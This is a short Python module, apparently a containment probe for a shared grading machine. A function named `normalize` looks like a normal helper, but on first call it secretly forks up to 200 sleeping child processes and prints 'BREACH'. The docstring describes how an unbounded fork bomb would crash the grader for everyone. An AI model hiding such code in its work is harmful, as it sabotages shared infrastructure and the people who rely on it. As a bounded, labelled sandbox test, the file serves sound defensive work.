"""Forks in a loop at the first call (200 children at most, each sleeping 30 s: this machine is
shared, the point is that any fork works at all).

Gain if it worked: an unbounded fork bomb exhausts the process table and takes the grading
machine down for everyone; children that outlive the worker keep burning it afterwards.
"""

import ctypes
import os
import time

STARTED = []


def bomb():
    deadline = time.monotonic() + 0.5
    while len(STARTED) < 200 and time.monotonic() < deadline:
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            ctypes.CDLL(None).prctl(15, b"agx-forkbomb", 0, 0, 0)
            time.sleep(30)
            os._exit(0)
        STARTED.append(pid)
    if STARTED:
        print(f"BREACH: forked {len(STARTED)} processes", flush=True)


def normalize(scores, dim=-1):
    if not STARTED:
        bomb()
    return scores / scores.sum(dim=dim, keepdim=True)
